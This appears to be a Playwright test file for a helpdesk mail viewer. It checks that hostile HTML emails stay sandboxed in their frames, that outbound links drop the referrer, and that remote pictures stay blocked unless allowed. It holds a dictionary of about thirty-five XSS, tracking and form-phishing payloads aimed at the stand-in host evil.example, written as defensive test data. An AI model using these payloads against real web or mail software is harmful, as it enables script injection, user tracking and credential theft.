"""Mails as they are shown on the real screen: what they bring stays in its frame, and pictures wait for a word."""

# ruff: noqa: E501  (hostile markup is read best in one line)
from __future__ import annotations

import re
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Dialog, Request, expect

from inbox.store import Message
from tests.journeys.desk import RunningDesk, until
from tests.ui.conftest import Receives, SignIn, open_ticket

EVIL = "evil.example"

#: What a hostile mail may hold, each by its trick. ``window.owned`` and ``evil.example`` are what must never be seen.
HOSTILE = {
    "picture": "<img src='https://evil.example/pixel.gif?who=7'>",
    "script": "<script>top.owned=1;fetch('https://evil.example/script')</script>",
    "script by address": "<script src='https://evil.example/x.js'></script>",
    "handlers": "<img src=x onerror='top.owned=1'><body onload='top.owned=1'><details open ontoggle='top.owned=1'>x</details>",
    "focus": "<input autofocus onfocus='top.owned=1'><a tabindex=1 autofocus onfocus='top.owned=1' href=https://x.example>x</a>",
    "svg": "<svg onload='top.owned=1'><image href='https://evil.example/i.png'/><use href='https://evil.example/#a'/></svg>",
    "svg animation": "<svg><a xlink:href=x><animate attributeName=href values='javascript:top.owned=1'/></a></svg>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/refresh'>",
    "meta policy": "<meta http-equiv=Content-Security-Policy content='script-src *'><meta name=referrer content=unsafe-url>",
    "form": "<form action='https://evil.example/form'><input name=password><button autofocus>OK</button></form>",
    "form of ours": "<input form=regroup name=to value=1><button form=regroup>x</button>",
    "base": "<base href='https://evil.example/' target=_top><a href='relative'>x</a><img src='relative.png'>",
    "style sheet": "<link rel=stylesheet href='https://evil.example/x.css'><style>@import 'https://evil.example/i.css';</style>",
    "style urls": "<p style=\"background:url('https://evil.example/b.gif');list-style:url(https://evil.example/l.gif)\">x</p>",
    "font": "<style>@font-face{font-family:a;src:url(https://evil.example/f.woff)}p{font-family:a}</style><p>x</p>",
    "style tricks": "<p style='cursor:url(https://evil.example/c.cur),auto;content:url(https://evil.example/t.gif)'>x</p>",
    "cover": "<div style='position:fixed;inset:0;z-index:99999;width:100vw;height:100vh;background:#f00'>Sign in</div>",
    "cover by margin": "<div style='margin:-5000px;width:20000px;height:20000px;background:#f00'>x</div>",
    "giant": "<table width=100000 height=100000><tr><td style='height:900000px;width:900000px'>x</td></tr></table>",
    "srcset": "<img srcset='https://evil.example/s.png 1x' sizes=100vw><picture><source srcset=https://evil.example/p.png><img></picture>",
    "prefetch": "<link rel=dns-prefetch href=//evil.example><link rel=preload as=image href=https://evil.example/p><link rel=prerender href=https://evil.example>",
    "mailto bombs": "".join(f"<img src='mailto:a{n}@evil.example'><iframe src='mailto:b{n}@evil.example'></iframe>" for n in range(50)),
    "mailto giant": f"<a href='mailto:a@evil.example?body={'x' * 50_000}'>x</a>",
    "data html": "<a href='data:text/html,<script>top.owned=1</script>'>x</a><iframe src='data:text/html,<script>top.owned=1</script>'></iframe>",
    "srcdoc": "<iframe srcdoc='<script>top.owned=1</script><img src=https://evil.example/d.png>'></iframe>",
    "cid": "<img src='cid:none@evil.example'><img src='cid:../../logout'><img src='cid:https://evil.example/c.png'>",
    "our own addresses": "<img src='/logout'><img src='/messages/1/view?remote=1'><a href='/settings'>x</a>",
    "javascript links": "<a href='javascript:top.owned=1'>x</a><a href='&#1;javascript:top.owned=1'>y</a><area href='javascript:top.owned=1'>",
    "ping": "<a href='https://x.example' ping='https://evil.example/ping' attributionsrc='https://evil.example/a'>x</a>",
    "objects": "<object data='https://evil.example/o'></object><embed src='https://evil.example/e'><applet code=x></applet>",
    "media": "<video autoplay src='https://evil.example/v.mp4' poster='https://evil.example/p.png'></video><audio autoplay src='https://evil.example/a.mp3'></audio>",
    "backgrounds": "<table background='https://evil.example/t.gif'><td background='//evil.example/d.gif'>x</td></table>",
    "mutation": "<noscript><p title='</noscript><img src=x onerror=top.owned=1>'></noscript><math><mtext></p><style><img src=x onerror=top.owned=1>",
    "comments": "<!--><img src=x onerror=top.owned=1>--><![CDATA[<script>top.owned=1</script>]]><xmp><img src=x onerror=top.owned=1></xmp>",
    "clobbering": "<p id=regroup name=csrf-token class='composer toast'>x</p><a id=strings href=x>x</a>",
}  # fmt: skip


@pytest.mark.parametrize("pictures", ["blocked", "shown"])
def test_nothing_of_a_hostile_mail_runs_phones_home_or_leaves_its_frame(
    desk: RunningDesk, receives: Receives, sign_in: SignIn, pictures: str
) -> None:
    subject = f"Tutto in una volta, {pictures}"
    number, first = receives(pictures, subject, "Buongiorno")
    bulk = {"Precedence": "bulk", "In-Reply-To": first}
    for html in HOSTILE.values():
        desk.sandbox.email.receive(f"{pictures}@studio.example", "x", f"Re: {subject}", html=html, headers=bulk)
    until("every mail is in the ticket", lambda: _count(desk, number) == len(HOSTILE) + 1, 60)
    if pictures == "shown":
        _allow_pictures(desk, number)
    page = sign_in("luca")
    asked: list[Request] = []
    dialogs: list[str] = []

    def spoke(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    def sent(request: Request) -> None:
        if EVIL in request.url.partition("?")[0]:
            asked.append(request)

    page.on("dialog", spoke)
    page.on("request", sent)
    page.context.route(f"**://{EVIL}/**", lambda route: route.abort())
    open_ticket(page, number)
    page.evaluate("for (const each of document.querySelectorAll('.mail details')) each.open = true")
    frames = page.locator(".mail-frame")
    expect(frames).to_have_count(len(HOSTILE))
    for n in range(len(HOSTILE)):
        frames.nth(n).scroll_into_view_if_needed()
    # The page itself is never idle, it listens; a mail has tried what it can once its document and pictures are read.
    page.wait_for_function(
        """() => [...document.querySelectorAll(".mail-frame")].every((each) => {
          const inner = each.contentDocument;
          return inner && inner.URL !== "about:blank" && inner.readyState === "complete";
        })"""
    )

    assert page.evaluate("window.owned") is None
    assert dialogs == []
    assert urlsplit(page.url).path == f"/tickets/{number}"
    inner = [frame.url for frame in page.frames if frame is not page.main_frame]
    assert len(inner) == len(HOSTILE)
    assert all(re.fullmatch(rf"{re.escape(desk.url)}/messages/\d+/view", url) for url in inner)
    urls = {request.url for request in asked}
    assert urls == (set() if pictures == "blocked" else {"https://evil.example/pixel.gif?who=7"})
    assert {request.resource_type for request in asked} <= {"image"}
    assert not [request for request in asked if "referer" in request.headers]
    covered = page.evaluate(
        """() => [...document.querySelectorAll(".comp-in, .thread-head h2, #rows .conv-a")].filter((each) => {
          const { left, top, width, height } = each.getBoundingClientRect();
          const seen = document.elementFromPoint(left + width / 2, top + height / 2);
          return seen && seen.matches("iframe");
        }).length"""
    )
    assert covered == 0
    outside = page.evaluate(
        """() => [...document.querySelectorAll(".mail-frame")].filter((frame) => {
          const [inner, outer] = [frame, frame.closest(".mail")].map((each) => each.getBoundingClientRect());
          return inner.left < outer.left || inner.right > outer.right || inner.height > 4000;
        }).length"""
    )
    assert outside == 0


def _count(desk: RunningDesk, number: int) -> int:
    with desk.store.reading() as work:
        return work.query(Message).filter_by(ticket_id=number).count()


def _allow_pictures(desk: RunningDesk, number: int) -> None:
    from inbox.actions import identities
    from inbox.actions.who import SYSTEM

    with desk.store.transaction() as work:
        first = work.query(Message).filter_by(ticket_id=number).order_by(Message.id).first()
        assert first is not None
        identities.show_pictures(work, SYSTEM, first.id, show=True)


def test_a_link_of_a_mail_opens_elsewhere_and_tells_nobody_where_it_stood(
    desk: RunningDesk, receives: Receives, sign_in: SignIn
) -> None:
    html = '<p>Vedi <a href="https://shop.example/offer?a=1">la nostra offerta</a></p>'
    number, _ = receives("hugo", "Un collegamento", "x", html=html, headers={"Precedence": "bulk"})
    page = sign_in("luca")
    page.context.route("https://shop.example/**", lambda route: route.fulfill(body="<h1>Offerta</h1>"))
    open_ticket(page, number)
    page.locator(".mail summary").click()
    with page.context.expect_page() as opened:
        page.frame_locator(".mail-frame").get_by_role("link").click()
    opened.value.wait_for_load_state()
    assert opened.value.url == "https://shop.example/offer?a=1"
    assert opened.value.evaluate("document.referrer") == ""
    assert opened.value.evaluate("window.opener") is None
    assert urlsplit(page.url).path == f"/tickets/{number}"


def test_pictures_from_elsewhere_are_shown_once_or_always_and_no_longer(
    desk: RunningDesk, receives: Receives, sign_in: SignIn
) -> None:
    html = '<p>Offerta</p><img alt="logo" src="https://pictures.example/logo.png">'
    number, _ = receives("gina", "Offerta con logo", "Ecco", html=html)
    page = sign_in("luca")
    asked: list[str] = []

    def sent(request: Request) -> None:
        if "pictures.example" in request.url:
            asked.append(request.url)

    page.on("request", sent)
    page.route("https://pictures.example/**", lambda route: route.abort())
    open_ticket(page, number)
    bar, picture = page.locator(".pictures"), page.frame_locator(".mail-frame").get_by_alt_text("logo")
    whole = page.locator(".mail").get_by_role("link", name="Show all of it")
    expect(bar).to_be_hidden()
    whole.click()
    expect(picture).to_have_attribute("src", re.compile("^data:"))
    assert asked == []
    bar.get_by_role("link", name="Show once").click()
    expect(picture).to_have_attribute("src", "https://pictures.example/logo.png")
    page.reload()
    whole.click()
    expect(picture).to_have_attribute("src", re.compile("^data:"))
    bar.get_by_role("button", name="Always for this sender").click()
    whole.click()
    expect(picture).to_have_attribute("src", "https://pictures.example/logo.png")
    later, _ = receives("gina", "Un'altra offerta", "Ecco", html=html)
    open_ticket(page, later)
    whole.click()
    expect(picture).to_have_attribute("src", "https://pictures.example/logo.png")
    page.locator("#panel-customer").get_by_role("button", name="Block pictures").click()
    expect(page.locator("#panel-customer").get_by_role("button", name="Block pictures")).to_have_count(0)
    whole.click()
    expect(picture).to_have_attribute("src", re.compile("^data:"))
    assert len(asked) >= 3
